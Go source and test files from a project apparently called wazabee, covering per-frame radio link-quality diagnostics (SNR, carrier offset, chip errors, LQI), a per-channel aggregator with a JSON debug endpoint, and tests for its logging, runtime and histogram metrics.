	reg := obs.NewRegistry()
	decoded := &Stats{
		Synced: true, Decoded: true, FCSOK: true,
		SNRdB: 14, SNRValid: true, CFOHz: 1200,
		ChipErrors: 3, ChipsCompared: 310,
	}
	decoded.Finalize()
	Observe(reg, decoded, "decoder", "wazabee")
	noSync := &Stats{}
	noSync.Finalize()
	Observe(reg, noSync, "decoder", "wazabee")
	Observe(reg, nil, "decoder", "wazabee") // must be a no-op

	if got := reg.Counter(MetricFrames, "result", "decoded", "decoder", "wazabee").Value(); got != 1 {
		t.Errorf("decoded frames counter = %d, want 1", got)
	}
	if got := reg.Counter(MetricFrames, "result", "no_sync", "decoder", "wazabee").Value(); got != 1 {
		t.Errorf("no_sync frames counter = %d, want 1", got)
	}
	if got := reg.Histogram(MetricLQI, LQIBuckets, "decoder", "wazabee").Count(); got != 2 {
		t.Errorf("LQI histogram count = %d, want 2 (every attempt)", got)
	}
	if got := reg.Histogram(MetricSNR, SNRBuckets, "decoder", "wazabee").Count(); got != 1 {
		t.Errorf("SNR histogram count = %d, want 1 (valid estimates only)", got)
	}
	if got := reg.Gauge(MetricCFO, "decoder", "wazabee").Value(); got != 1200 {
		t.Errorf("CFO gauge = %g, want 1200", got)
	}
	if got := reg.Counter(MetricChipErrors, "decoder", "wazabee").Value(); got != 3 {
		t.Errorf("chip errors counter = %d, want 3", got)
	}
	if got := reg.Counter(MetricChips, "decoder", "wazabee").Value(); got != 310 {
		t.Errorf("chips counter = %d, want 310", got)
	}
}

func TestAggregatorSummaries(t *testing.T) {
	reg := obs.NewRegistry()
	a := NewAggregator(reg)

	good := &Stats{Synced: true, Decoded: true, FCSOK: true,
		SNRdB: 20, SNRValid: true, CFOHz: 500, ChipsCompared: 310}
	good.Finalize()
	bad := &Stats{}
	bad.Finalize()
	a.Observe(14, good)
	a.Observe(14, bad)
	a.Observe(17, bad)
	a.Observe(17, nil) // ignored

	snaps := a.Snapshot()
	if len(snaps) != 2 || snaps[0].Channel != 14 || snaps[1].Channel != 17 {
		t.Fatalf("Snapshot channels = %+v, want [14 17]", snaps)
	}
	s14, ok := a.Summary(14)
	if !ok {
		t.Fatal("channel 14 missing")
	}
	if s14.Frames != 2 || s14.Decoded != 1 || s14.NoSync != 1 || s14.FCSOK != 1 {
		t.Errorf("channel 14 tallies = %+v", s14)
	}
	// Mean LQI averages over every attempt: (255 + 0) / 2.
	if math.Abs(s14.MeanLQI-127.5) > 1e-9 {
		t.Errorf("channel 14 mean LQI = %g, want 127.5", s14.MeanLQI)
	}
	if s14.MeanSNRdB != 20 || s14.SNRFrames != 1 {
		t.Errorf("channel 14 SNR aggregate = %g over %d frames", s14.MeanSNRdB, s14.SNRFrames)
	}
	if _, ok := a.Summary(26); ok {
		t.Error("unobserved channel 26 reported a summary")
	}

	// The aggregator also feeds the per-channel metric series.
	if got := reg.Counter(MetricFrames, "result", "decoded", "channel", "14").Value(); got != 1 {
		t.Errorf("per-channel decoded counter = %d, want 1", got)
	}
}

func TestAggregatorServeHTTP(t *testing.T) {
	a := NewAggregator(obs.NewRegistry())
	st := &Stats{Synced: true, Decoded: true, ChipsCompared: 310}
	st.Finalize()
	a.Observe(14, st)

	rec := httptest.NewRecorder()
	a.ServeHTTP(rec, httptest.NewRequest("GET", "/debug/link", nil))
	if rec.Code != 200 {
		t.Fatalf("status = %d", rec.Code)
	}
	var payload struct {
		Channels []ChannelSummary `json:"channels"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &payload); err != nil {
		t.Fatalf("response not JSON: %v", err)
	}
	if len(payload.Channels) != 1 || payload.Channels[0].Channel != 14 {
		t.Fatalf("payload = %+v", payload)
	}
	if payload.Channels[0].Frames != 1 || payload.Channels[0].Decoded != 1 {
		t.Errorf("channel 14 = %+v", payload.Channels[0])
	}
}

func TestAggregatorTable(t *testing.T) {
	a := NewAggregator(obs.NewRegistry())
	if a.Table() != "" {
		t.Error("empty aggregator should render an empty table")
	}
	st := &Stats{Synced: true, Decoded: true, ChipsCompared: 310}
	st.Finalize()
	a.Observe(14, st)
	table := a.Table()
	if !strings.Contains(table, "ch") || !strings.Contains(table, "14") {
		t.Errorf("table missing header or channel row:\n%s", table)
	}
	if lines := strings.Count(strings.TrimRight(table, "\n"), "\n") + 1; lines != 2 {
		t.Errorf("table has %d lines, want header + 1 channel", lines)
	}
}
