// Package link computes and aggregates per-frame link-quality
// diagnostics — the soft signal evidence the paper's evaluation is
// actually about. Table III's per-channel frame loss is driven by SNR,
// WiFi co-channel interference and per-chip front ends, and the RX
// primitive decodes by per-block Hamming distance; this package turns
// that evidence, which the demodulators compute anyway, into a Stats
// record every receive attempt emits:
//
//   - RSSI and noise floor (dBFS, relative — the simulation has no
//     absolute calibration, like the uncalibrated RSSI registers of
//     real BLE chips);
//   - estimated SNR, measured by splitting the capture into the decoded
//     frame span and the noise-only guard regions around it;
//   - estimated carrier frequency offset in Hz, from the sync-window
//     phase bias;
//   - the normalized sync-correlation peak (nominal 1.0);
//   - the per-symbol Hamming-distance histogram, total chip errors and
//     chip error rate of the despreader;
//   - an 802.15.4-style LQI (0–255) derived from them.
//
// The Aggregator folds Stats into per-channel summaries (the
// /debug/link endpoint of wazabeed) and into the obs registry as
// per-channel SNR/LQI histograms, a CFO gauge and chip-error counters.
package link

import (
	"math"

	"wazabee/internal/dsp"
	"wazabee/internal/obs"
)

// Stats is the per-frame link-quality record. Every receive attempt —
// successful or not — produces one; fields beyond the sync stage are
// only meaningful when the corresponding phase flag is set.
type Stats struct {
	// Synced reports whether preamble/Access Address correlation locked.
	Synced bool
	// Decoded reports whether a full PPDU despread (and, for a gated
	// receiver, passed the chip-distance quality gate).
	Decoded bool
	// Gated reports that the frame despread fully but the worst
	// per-symbol chip distance exceeded the receiver's quality gate, so
	// it was dropped as "not received".
	Gated bool
	// FCSOK reports whether the recovered PSDU's FCS verified. Only
	// meaningful when Decoded.
	FCSOK bool

	// RSSIdBFS is the mean power of the frame span (or, before sync, of
	// the whole capture) in dB relative to full scale.
	RSSIdBFS float64
	// NoisedBFS is the noise floor estimated from the noise-only guard
	// regions around the frame. Only meaningful when SNRValid.
	NoisedBFS float64
	// SNRdB is the estimated signal-to-noise ratio of the frame.
	SNRdB float64
	// SNRValid reports whether the capture had enough noise-only margin
	// around the decoded frame to estimate SNRdB and NoisedBFS.
	SNRValid bool

	// CFOHz is the estimated carrier frequency offset, from the mean
	// residual phase rotation over the sync window. Only meaningful when
	// Synced.
	CFOHz float64
	// SyncCorr is the normalized soft correlation peak of the sync
	// pattern: 1.0 for a noiseless, perfectly timed preamble.
	SyncCorr float64
	// SyncErrors is the hard bit-error count inside the sync window.
	SyncErrors int

	// WorstChipDistance is the largest per-symbol Hamming distance of
	// the despreader (the quality-gate input).
	WorstChipDistance int
	// ChipErrors is the summed Hamming distance over all despread
	// symbols; ChipsCompared is the number of chip positions compared.
	ChipErrors    int
	ChipsCompared int
	// DistHist is the per-symbol Hamming-distance histogram: DistHist[d]
	// counts payload symbols that despread at distance d (clamped at 16).
	DistHist [17]uint32

	// LQI is the 802.15.4-style link quality indication (0–255) derived
	// from the chip error rate and estimated SNR; see ComputeLQI.
	LQI uint8
}

// ChipErrorRate returns the fraction of chip positions that despread
// with errors, or zero before any symbol was compared.
func (s *Stats) ChipErrorRate() float64 {
	if s.ChipsCompared == 0 {
		return 0
	}
	return float64(s.ChipErrors) / float64(s.ChipsCompared)
}

// maxCER is the chip error rate at which the LQI scale bottoms out. The
// despreading alphabet's minimum pairwise transition distance means
// frames past ~0.3 effectively never survive the quality gate, so the
// scale uses its full range over the distances that actually occur.
const maxCER = 0.30

// lqiSNRSaturationDB is the estimated SNR above which the SNR term of
// the LQI stops improving — matching commercial 802.15.4 transceivers,
// whose LQI saturates well below their maximum input level.
const lqiSNRSaturationDB = 20.0

// ComputeLQI derives an 802.15.4-style LQI (0–255) from the chip error
// rate and the estimated SNR:
//
//	quality = (1 − cer/0.30) · (0.75 + 0.25·clamp(snr/20, 0, 1))
//	LQI     = round(255 · quality)
//
// The chip-error term dominates (it is the despreader's direct evidence,
// the "correlation" sense of the standard's LQI); the SNR term shaves up
// to a quarter off marginal links whose chips happened to survive. When
// no SNR estimate is available the SNR term is neutral (1.0).
func ComputeLQI(cer, snrDB float64, snrValid bool) uint8 {
	q := 1 - cer/maxCER
	if q < 0 {
		q = 0
	} else if q > 1 {
		q = 1
	}
	s := 1.0
	if snrValid {
		s = snrDB / lqiSNRSaturationDB
		if s < 0 {
			s = 0
		} else if s > 1 {
			s = 1
		}
	}
	return uint8(math.Round(255 * q * (0.75 + 0.25*s)))
}

// Finalize derives the LQI from the evidence fields. Frames that never
// despread any symbol (sync loss, mid-frame abort) get LQI 0 — the
// link delivered nothing usable; gated frames keep the LQI their chip
// errors earn, which is what collapses per-channel LQI means on
// interference-degraded channels.
func (s *Stats) Finalize() {
	if s.ChipsCompared == 0 {
		s.LQI = 0
		return
	}
	s.LQI = ComputeLQI(s.ChipErrorRate(), s.SNRdB, s.SNRValid)
}

// Result classifies the receive attempt for the frames counter.
func (s *Stats) Result() string {
	switch {
	case !s.Synced:
		return "no_sync"
	case s.Gated:
		return "gated"
	case !s.Decoded:
		return "despread_failed"
	default:
		return "decoded"
	}
}

// RSSIdBFS returns the mean power of a capture in dB full scale — the
// whole-capture fallback RSSI used before synchronisation localises the
// frame.
func RSSIdBFS(sig dsp.IQ) float64 {
	return 10 * math.Log10(sig.Power()+1e-12)
}

// minMeasureSamples is the minimum number of samples each of the frame
// and noise regions must contribute for an SNR estimate to be credible.
const minMeasureSamples = 16

// snrFloorDB and snrCeilDB clamp the estimate: below the floor the
// frame-region power is indistinguishable from (or below) the noise
// estimate; above the ceiling the noise regions measured essentially
// zero power.
const (
	snrFloorDB = -30
	snrCeilDB  = 60
)

// Measure estimates RSSI, noise floor and SNR from a capture given the
// sample span [frameStart, frameEnd) the demodulator decoded. The noise
// floor comes from the regions before and after the frame, with
// guardSkip samples excluded on both sides of the span: the demodulator
// reports transition-aligned bounds, so the burst really starts up to
// half a chip earlier and rings one chip (plus pulse tails) later than
// the span says. The signal power is the frame-region power minus that
// floor. ok is false when either region is too short to measure, in
// which case rssiDB still carries the frame-region (or whole-capture)
// power.
func Measure(sig dsp.IQ, frameStart, frameEnd, guardSkip int) (rssiDB, noiseDB, snrDB float64, ok bool) {
	n := len(sig)
	if frameStart < 0 {
		frameStart = 0
	}
	if frameEnd > n {
		frameEnd = n
	}
	if frameStart >= frameEnd {
		return RSSIdBFS(sig), 0, 0, false
	}
	framePower := dsp.PowerSegment(sig, frameStart, frameEnd)
	rssiDB = 10 * math.Log10(framePower+1e-12)

	headEnd := frameStart - guardSkip
	if headEnd < 0 {
		headEnd = 0
	}
	tailStart := frameEnd + guardSkip
	if tailStart > n {
		tailStart = n
	}
	noiseSamples := headEnd + (n - tailStart)
	if frameEnd-frameStart < minMeasureSamples || noiseSamples < minMeasureSamples {
		return rssiDB, 0, 0, false
	}
	var noiseSum float64
	if headEnd > 0 {
		noiseSum += dsp.PowerSegment(sig, 0, headEnd) * float64(headEnd)
	}
	if tailStart < n {
		noiseSum += dsp.PowerSegment(sig, tailStart, n) * float64(n-tailStart)
	}
	noisePower := noiseSum / float64(noiseSamples)
	noiseDB = 10 * math.Log10(noisePower+1e-12)

	signalPower := framePower - noisePower
	switch {
	case noisePower <= 0 || signalPower/noisePower > math.Pow(10, snrCeilDB/10):
		snrDB = snrCeilDB
	case signalPower <= 0 || signalPower/noisePower < math.Pow(10, snrFloorDB/10):
		snrDB = snrFloorDB
	default:
		snrDB = 10 * math.Log10(signalPower/noisePower)
	}
	return rssiDB, noiseDB, snrDB, true
}

// CFOFromBias converts a per-period phase bias (radians accumulated per
// symbol/chip period, the demodulators' CFOBias) into a frequency
// offset in Hz at the given symbol rate.
func CFOFromBias(biasRad float64, symbolRateHz float64) float64 {
	return biasRad * symbolRateHz / (2 * math.Pi)
}

// Metric families the link layer feeds into the obs registry.
const (
	// MetricSNR is the estimated-SNR histogram family (dB).
	MetricSNR = "wazabee_link_snr_db"
	// MetricLQI is the LQI histogram family (0–255).
	MetricLQI = "wazabee_link_lqi"
	// MetricCFO is the last-estimated-CFO gauge family (Hz).
	MetricCFO = "wazabee_link_cfo_hz"
	// MetricChipErrors counts despreader chip errors (Hamming distance).
	MetricChipErrors = "wazabee_link_chip_errors_total"
	// MetricChips counts chip positions compared by the despreader.
	MetricChips = "wazabee_link_chips_total"
	// MetricFrames counts receive attempts by result
	// (decoded | gated | despread_failed | no_sync).
	MetricFrames = "wazabee_link_frames_total"
)

// SNRBuckets spans −10..40 dB in 2.5 dB steps.
var SNRBuckets = obs.LinearBuckets(-10, 2.5, 21)

// LQIBuckets spans the 0–255 LQI scale in steps of 16.
var LQIBuckets = obs.LinearBuckets(0, 16, 17)

// Observe feeds one frame's diagnostics into a registry under the given
// label pairs (e.g. "decoder", "wazabee" from a receiver, or "channel",
// "17" from a per-channel aggregator). SNR and CFO series are only
// touched when the frame carried a valid estimate; LQI and the frames
// counter always are.
func Observe(reg *obs.Registry, st *Stats, labelPairs ...string) {
	if st == nil {
		return
	}
	reg = obs.Or(reg)
	reg.Counter(MetricFrames, append([]string{"result", st.Result()}, labelPairs...)...).Inc()
	reg.Histogram(MetricLQI, LQIBuckets, labelPairs...).Observe(float64(st.LQI))
	if st.SNRValid {
		reg.Histogram(MetricSNR, SNRBuckets, labelPairs...).Observe(st.SNRdB)
	}
	if st.Synced {
		reg.Gauge(MetricCFO, labelPairs...).Set(st.CFOHz)
	}
	if st.ChipsCompared > 0 {
		reg.Counter(MetricChipErrors, labelPairs...).Add(uint64(st.ChipErrors))
		reg.Counter(MetricChips, labelPairs...).Add(uint64(st.ChipsCompared))
	}
}
