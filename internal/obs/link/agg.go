package link

import (
	"encoding/json"
	"fmt"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"sync"

	"wazabee/internal/obs"
)

// Aggregator folds per-frame Stats into per-channel summaries. It is
// safe for concurrent use; every Observe also feeds the per-channel
// metric series of the backing obs registry, so the same evidence is
// visible as JSON (the /debug/link endpoint), as a formatted table (the
// daemon's shutdown summary) and as Prometheus series.
type Aggregator struct {
	reg *obs.Registry

	mu sync.Mutex
	ch map[int]*channelAgg
}

type channelAgg struct {
	frames, decoded, gated, noSync, fcsOK uint64

	snrFrames uint64
	snrSum    float64
	cfoFrames uint64
	cfoSum    float64
	lqiSum    float64
	chipErrs  uint64
	chips     uint64
	worst     int

	last Stats
}

// NewAggregator builds an aggregator reporting into reg; nil falls back
// to the process default registry.
func NewAggregator(reg *obs.Registry) *Aggregator {
	return &Aggregator{reg: obs.Or(reg), ch: make(map[int]*channelAgg)}
}

// Observe folds one frame's diagnostics into the channel's aggregate
// and the registry's per-channel series. nil stats are ignored.
func (a *Aggregator) Observe(channel int, st *Stats) {
	if st == nil {
		return
	}
	Observe(a.reg, st, "channel", strconv.Itoa(channel))

	a.mu.Lock()
	defer a.mu.Unlock()
	c := a.ch[channel]
	if c == nil {
		c = &channelAgg{}
		a.ch[channel] = c
	}
	c.frames++
	c.lqiSum += float64(st.LQI)
	switch {
	case !st.Synced:
		c.noSync++
	case st.Gated:
		c.gated++
	case st.Decoded:
		c.decoded++
	}
	if st.Decoded && st.FCSOK {
		c.fcsOK++
	}
	if st.SNRValid {
		c.snrFrames++
		c.snrSum += st.SNRdB
	}
	if st.Synced {
		c.cfoFrames++
		c.cfoSum += st.CFOHz
	}
	c.chipErrs += uint64(st.ChipErrors)
	c.chips += uint64(st.ChipsCompared)
	if st.WorstChipDistance > c.worst {
		c.worst = st.WorstChipDistance
	}
	c.last = *st
}

// ChannelSummary is one channel's aggregate view — one element of the
// /debug/link JSON payload.
type ChannelSummary struct {
	Channel int `json:"channel"`
	// Frames counts every receive attempt; Decoded, Gated and NoSync
	// partition the outcomes (the remainder are mid-frame aborts).
	Frames  uint64 `json:"frames"`
	Decoded uint64 `json:"decoded"`
	Gated   uint64 `json:"gated,omitempty"`
	NoSync  uint64 `json:"no_sync,omitempty"`
	FCSOK   uint64 `json:"fcs_ok"`
	// MeanLQI averages over every attempt (undecoded frames count as 0,
	// so a lossy channel's mean collapses the way Table III's loss rows
	// do). MeanSNRdB and MeanCFOHz average only frames that carried a
	// valid estimate.
	MeanLQI           float64 `json:"mean_lqi"`
	MeanSNRdB         float64 `json:"mean_snr_db"`
	SNRFrames         uint64  `json:"snr_frames"`
	MeanCFOHz         float64 `json:"mean_cfo_hz"`
	MeanChipErrorRate float64 `json:"mean_chip_error_rate"`
	WorstChipDistance int     `json:"worst_chip_distance"`
	// LastLQI and LastSNRdB snapshot the most recent frame.
	LastLQI   uint8   `json:"last_lqi"`
	LastSNRdB float64 `json:"last_snr_db"`
}

func (c *channelAgg) summary(channel int) ChannelSummary {
	s := ChannelSummary{
		Channel:           channel,
		Frames:            c.frames,
		Decoded:           c.decoded,
		Gated:             c.gated,
		NoSync:            c.noSync,
		FCSOK:             c.fcsOK,
		WorstChipDistance: c.worst,
		LastLQI:           c.last.LQI,
		LastSNRdB:         c.last.SNRdB,
	}
	if c.frames > 0 {
		s.MeanLQI = c.lqiSum / float64(c.frames)
	}
	if c.snrFrames > 0 {
		s.MeanSNRdB = c.snrSum / float64(c.snrFrames)
		s.SNRFrames = c.snrFrames
	}
	if c.cfoFrames > 0 {
		s.MeanCFOHz = c.cfoSum / float64(c.cfoFrames)
	}
	if c.chips > 0 {
		s.MeanChipErrorRate = float64(c.chipErrs) / float64(c.chips)
	}
	return s
}

// Snapshot returns every channel's summary, ordered by channel.
func (a *Aggregator) Snapshot() []ChannelSummary {
	a.mu.Lock()
	defer a.mu.Unlock()
	out := make([]ChannelSummary, 0, len(a.ch))
	for channel, c := range a.ch {
		out = append(out, c.summary(channel))
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Channel < out[j].Channel })
	return out
}

// Summary returns one channel's aggregate, and false when the channel
// has seen no frames.
func (a *Aggregator) Summary(channel int) (ChannelSummary, bool) {
	a.mu.Lock()
	defer a.mu.Unlock()
	c, ok := a.ch[channel]
	if !ok {
		return ChannelSummary{}, false
	}
	return c.summary(channel), true
}

// ServeHTTP serves the per-channel aggregates as JSON — the payload of
// wazabeed's /debug/link endpoint.
func (a *Aggregator) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	payload := struct {
		Channels []ChannelSummary `json:"channels"`
	}{Channels: a.Snapshot()}
	b, err := json.MarshalIndent(payload, "", "  ")
	if err != nil {
		http.Error(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/json")
	_, _ = w.Write(b)
}

// Table renders the aggregates as aligned per-channel summary lines,
// one per channel, for operator-facing output.
func (a *Aggregator) Table() string {
	snaps := a.Snapshot()
	if len(snaps) == 0 {
		return ""
	}
	var b strings.Builder
	fmt.Fprintf(&b, "%-4s %7s %8s %7s %8s %9s %10s %9s %6s\n",
		"ch", "frames", "decoded", "no-sync", "fcs-ok", "snr(dB)", "cfo(Hz)", "chip-err", "lqi")
	for _, s := range snaps {
		fmt.Fprintf(&b, "%-4d %7d %8d %7d %8d %9.1f %10.0f %9.4f %6.0f\n",
			s.Channel, s.Frames, s.Decoded, s.NoSync, s.FCSOK,
			s.MeanSNRdB, s.MeanCFOHz, s.MeanChipErrorRate, s.MeanLQI)
	}
	return b.String()
}
