package obs

import "testing"

// BenchmarkHistogramObserve pins the cost of the lock-free Observe hot
// path on the latency bucket layout — the per-record overhead every
// hub publish, queue pop and stream flush pays.
func BenchmarkHistogramObserve(b *testing.B) {
	h := newHistogram(LatencyBuckets)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.Observe(0.00137)
	}
}

// BenchmarkHistogramObserveParallel checks the hot path under
// contention: concurrent publishers and consumers observe into the
// same latency family.
func BenchmarkHistogramObserveParallel(b *testing.B) {
	h := newHistogram(LatencyBuckets)
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		v := 0.00137
		for pb.Next() {
			h.Observe(v)
			v += 1e-9
		}
	})
}
