package obs

import (
	"bytes"
	"encoding/json"
	"net/http/httptest"
	"strings"
	"testing"
)

func TestLoggerLevelThreshold(t *testing.T) {
	l := NewLogger(nil, 16)
	l.Debug("core", "dropped below default threshold")
	l.Info("core", "kept")
	l.Warn("core", "kept too")
	events := l.Events()
	if len(events) != 2 {
		t.Fatalf("got %d events, want 2 (debug filtered at default info threshold)", len(events))
	}
	if events[0].Msg != "kept" || events[1].Msg != "kept too" {
		t.Errorf("events = %+v", events)
	}

	l.SetLevel(LevelError)
	l.Warn("core", "now dropped")
	if got := len(l.Events()); got != 2 {
		t.Errorf("warn recorded after raising threshold to error: %d events", got)
	}
}

func TestLoggerComponentOverride(t *testing.T) {
	l := NewLogger(nil, 16)
	l.SetComponentLevel("hub", LevelDebug)
	l.Debug("hub", "hub debug kept")
	l.Debug("core", "core debug dropped")
	events := l.Events()
	if len(events) != 1 || events[0].Component != "hub" {
		t.Fatalf("events = %+v, want only the hub debug event", events)
	}
	if !l.Enabled("hub", LevelDebug) {
		t.Error("Enabled(hub, debug) = false with a debug override")
	}
	if l.Enabled("core", LevelDebug) {
		t.Error("Enabled(core, debug) = true without an override")
	}
}

func TestLoggerRingBounded(t *testing.T) {
	l := NewLogger(nil, 4)
	for i := 0; i < 10; i++ {
		l.Info("core", "event", "i", i)
	}
	events := l.Events()
	if len(events) != 4 {
		t.Fatalf("ring holds %d events, want 4", len(events))
	}
	// Oldest first, and only the most recent four survive.
	if events[0].Fields["i"] != 6 && events[0].Fields["i"] != float64(6) {
		t.Errorf("oldest surviving event i = %v, want 6", events[0].Fields["i"])
	}
	if events[3].Seq <= events[0].Seq {
		t.Errorf("sequence not increasing: %d .. %d", events[0].Seq, events[3].Seq)
	}
}

func TestLoggerSinkWritesJSONLines(t *testing.T) {
	var buf bytes.Buffer
	l := NewLogger(&buf, 16)
	l.Info("daemon", "pipeline started", "channel", 14, "snr_db", 22.5)
	l.Error("daemon", "boom", "err", "some failure")

	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 2 {
		t.Fatalf("sink got %d lines, want 2", len(lines))
	}
	var ev Event
	if err := json.Unmarshal([]byte(lines[0]), &ev); err != nil {
		t.Fatalf("line 0 not JSON: %v", err)
	}
	if ev.Level != "info" || ev.Component != "daemon" || ev.Msg != "pipeline started" {
		t.Errorf("event = %+v", ev)
	}
	if ev.Fields["channel"] != float64(14) {
		t.Errorf("channel field = %v", ev.Fields["channel"])
	}
}

func TestLoggerFieldCoercion(t *testing.T) {
	l := NewLogger(nil, 4)
	// A non-JSON-encodable value must be stringified, a dangling key
	// filled in, and a non-string key coerced — never a panic or a
	// broken sink.
	l.Info("core", "odd fields", "err", struct{ X int }{7}, 42, "value", "dangling")
	ev := l.Events()[0]
	if _, ok := ev.Fields["err"].(string); !ok {
		t.Errorf("struct value not stringified: %T", ev.Fields["err"])
	}
	if ev.Fields["42"] != "value" {
		t.Errorf("non-string key not coerced: %+v", ev.Fields)
	}
	if ev.Fields["dangling"] != "(MISSING)" {
		t.Errorf("dangling key = %v, want (MISSING)", ev.Fields["dangling"])
	}
}

func TestLoggerServeHTTPFilters(t *testing.T) {
	l := NewLogger(nil, 16)
	l.Info("daemon", "one")
	l.Warn("hub", "two")
	l.Error("daemon", "three")

	get := func(target string) []Event {
		t.Helper()
		rec := httptest.NewRecorder()
		l.ServeHTTP(rec, httptest.NewRequest("GET", target, nil))
		if rec.Code != 200 {
			t.Fatalf("GET %s: status %d: %s", target, rec.Code, rec.Body.String())
		}
		var payload struct {
			Events []Event `json:"events"`
		}
		if err := json.Unmarshal(rec.Body.Bytes(), &payload); err != nil {
			t.Fatalf("GET %s: not JSON: %v", target, err)
		}
		return payload.Events
	}

	if got := get("/logz"); len(got) != 3 {
		t.Errorf("/logz returned %d events, want 3", len(got))
	}
	if got := get("/logz?level=warn"); len(got) != 2 {
		t.Errorf("level=warn returned %d events, want 2", len(got))
	}
	if got := get("/logz?component=hub"); len(got) != 1 || got[0].Msg != "two" {
		t.Errorf("component=hub returned %+v", got)
	}
	if got := get("/logz?n=1"); len(got) != 1 || got[0].Msg != "three" {
		t.Errorf("n=1 returned %+v, want the most recent event", got)
	}

	rec := httptest.NewRecorder()
	l.ServeHTTP(rec, httptest.NewRequest("GET", "/logz?level=shouting", nil))
	if rec.Code != 400 {
		t.Errorf("bad level query: status %d, want 400", rec.Code)
	}
	rec = httptest.NewRecorder()
	l.ServeHTTP(rec, httptest.NewRequest("GET", "/logz?n=-3", nil))
	if rec.Code != 400 {
		t.Errorf("negative n: status %d, want 400", rec.Code)
	}
}

func TestParseLevelRoundTrip(t *testing.T) {
	for _, lv := range []Level{LevelDebug, LevelInfo, LevelWarn, LevelError} {
		got, err := ParseLevel(lv.String())
		if err != nil || got != lv {
			t.Errorf("ParseLevel(%q) = %v, %v", lv.String(), got, err)
		}
	}
	if _, err := ParseLevel("shouting"); err == nil {
		t.Error("ParseLevel accepted an unknown level")
	}
}

func TestLogEventCounter(t *testing.T) {
	l := NewLogger(nil, 4)
	// The logger counts into the process default registry; measure the
	// delta so other tests' events don't matter.
	before := Default().Counter("wazabee_log_events_total", "level", "warn").Value()
	l.Warn("core", "counted")
	after := Default().Counter("wazabee_log_events_total", "level", "warn").Value()
	if after != before+1 {
		t.Errorf("warn counter delta = %d, want 1", after-before)
	}
}
