package obs

import (
	"context"
	"runtime"
	"strings"
	"testing"
	"time"
)

// TestSampleRuntime checks one sample publishes the full gauge set with
// sane values.
func TestSampleRuntime(t *testing.T) {
	reg := NewRegistry()
	SampleRuntime(reg)

	if g := reg.Gauge("wazabee_runtime_goroutines").Value(); g < 1 {
		t.Errorf("goroutines gauge %g < 1", g)
	}
	if g := reg.Gauge("wazabee_runtime_heap_bytes").Value(); g <= 0 {
		t.Errorf("heap gauge %g <= 0", g)
	}
	if g := reg.Gauge("wazabee_uptime_seconds").Value(); g <= 0 {
		t.Errorf("uptime gauge %g <= 0", g)
	}
	text := reg.PrometheusText()
	for _, name := range []string{
		"wazabee_runtime_goroutines",
		"wazabee_runtime_heap_bytes",
		"wazabee_runtime_alloc_bytes_total",
		"wazabee_runtime_gc_cycles_total",
		`wazabee_runtime_gc_pause_seconds{quantile="0.5"}`,
		`wazabee_runtime_gc_pause_seconds{quantile="0.99"}`,
		`wazabee_runtime_sched_latency_seconds{quantile="0.5"}`,
		`wazabee_runtime_sched_latency_seconds{quantile="0.99"}`,
	} {
		if !strings.Contains(text, name) {
			t.Errorf("runtime sample missing %s", name)
		}
	}

	// Force a GC so the pause quantiles have observations, then check
	// they stay finite and non-negative.
	runtime.GC()
	SampleRuntime(reg)
	for _, q := range []string{"0.5", "0.99"} {
		v := reg.Gauge("wazabee_runtime_gc_pause_seconds", "quantile", q).Value()
		if v < 0 || v > 10 {
			t.Errorf("gc pause p%s = %g outside [0, 10s]", q, v)
		}
	}
}

// TestStartRuntimeSampler checks the sampler publishes synchronously on
// start and keeps refreshing until cancelled.
func TestStartRuntimeSampler(t *testing.T) {
	reg := NewRegistry()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	StartRuntimeSampler(ctx, reg, 5*time.Millisecond)
	if reg.Gauge("wazabee_runtime_goroutines").Value() < 1 {
		t.Fatal("no synchronous first sample")
	}
	before := reg.Gauge("wazabee_uptime_seconds").Value()
	deadline := time.Now().Add(2 * time.Second)
	for reg.Gauge("wazabee_uptime_seconds").Value() == before {
		if time.Now().After(deadline) {
			t.Fatal("sampler never refreshed the uptime gauge")
		}
		time.Sleep(2 * time.Millisecond)
	}
}

// TestRegisterBuildInfo checks the build-info gauge self-identifies the
// binary with its Go version.
func TestRegisterBuildInfo(t *testing.T) {
	reg := NewRegistry()
	RegisterBuildInfo(reg)
	text := reg.PrometheusText()
	if !strings.Contains(text, "wazabee_build_info{") {
		t.Fatalf("no build info gauge:\n%s", text)
	}
	if !strings.Contains(text, `goversion="go`) {
		t.Errorf("build info missing the Go version:\n%s", text)
	}
	if !strings.Contains(text, "vcs_revision=") {
		t.Errorf("build info missing the revision label:\n%s", text)
	}
	if !strings.Contains(text, "wazabee_uptime_seconds") {
		t.Errorf("uptime gauge not registered alongside build info")
	}
}
