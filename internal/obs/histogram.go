package obs

import (
	"fmt"
	"math"
	"sort"
	"sync"
)

// Histogram is a fixed-bucket histogram: observations are counted into
// buckets by upper bound, with an implicit +Inf overflow bucket, and the
// exact sum/count kept alongside. Quantiles are estimated by linear
// interpolation inside the covering bucket, the same estimator
// Prometheus's histogram_quantile uses.
type Histogram struct {
	mu     sync.Mutex
	bounds []float64 // ascending finite upper bounds
	counts []uint64  // len(bounds)+1; last is the +Inf bucket
	sum    float64
	count  uint64
	min    float64
	max    float64
}

func newHistogram(bounds []float64) *Histogram {
	bs := append([]float64(nil), bounds...)
	sort.Float64s(bs)
	// Drop non-finite and duplicate bounds; +Inf is implicit.
	dst := bs[:0]
	for i, b := range bs {
		if math.IsInf(b, 0) || math.IsNaN(b) {
			continue
		}
		if i > 0 && len(dst) > 0 && b == dst[len(dst)-1] {
			continue
		}
		dst = append(dst, b)
	}
	bs = dst
	return &Histogram{
		bounds: bs,
		counts: make([]uint64, len(bs)+1),
		min:    math.Inf(1),
		max:    math.Inf(-1),
	}
}

// Observe records one value.
func (h *Histogram) Observe(v float64) {
	if math.IsNaN(v) {
		return
	}
	idx := sort.SearchFloat64s(h.bounds, v) // first bound >= v
	h.mu.Lock()
	h.counts[idx]++
	h.sum += v
	h.count++
	if v < h.min {
		h.min = v
	}
	if v > h.max {
		h.max = v
	}
	h.mu.Unlock()
}

// Count returns the number of observations.
func (h *Histogram) Count() uint64 {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.count
